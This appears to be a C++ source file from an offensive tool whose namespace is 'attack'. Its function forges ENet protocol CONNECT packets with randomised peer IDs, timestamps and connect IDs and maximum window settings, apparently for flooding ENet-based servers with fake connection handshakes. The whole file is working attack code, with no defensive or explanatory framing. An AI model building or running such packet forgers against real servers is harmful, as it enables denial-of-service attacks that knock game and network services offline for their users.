#include "connect_forge.hpp"

#include "volley/protocol/enet_wire.hpp"

namespace volley::attack {

using namespace volley::protocol;

std::size_t forge_connect(Rng& rng, MutableBytes out) noexcept {
  Header header;
  header.peer_id = kMaxPeerId;
  header.sent_time = static_cast<std::uint16_t>(rng.next());
  Connect connect;
  ConnectParams& p = connect.params;
  p.outgoing_peer_id = static_cast<std::uint16_t>(rng.between(0, kMaxPeerId - 1));
  p.mtu = kDefaultMtu;
  p.window_size = kMaxWindowSize;
  p.channel_count = 2;
  const std::uint32_t id = static_cast<std::uint32_t>(rng.next());
  p.connect_id = {static_cast<std::uint8_t>(id), static_cast<std::uint8_t>(id >> 8),
                  static_cast<std::uint8_t>(id >> 16), static_cast<std::uint8_t>(id >> 24)};
  const Command command{{CommandType::kConnect, true, false, kPeerLevelChannel, 1}, connect};
  const std::size_t head = encode_header(header, false, out);
  if (head == 0) return 0;
  const std::size_t body = encode_command(command, out.subspan(head));
  return body == 0 ? 0 : head + body;
}

}  // namespace volley::attack
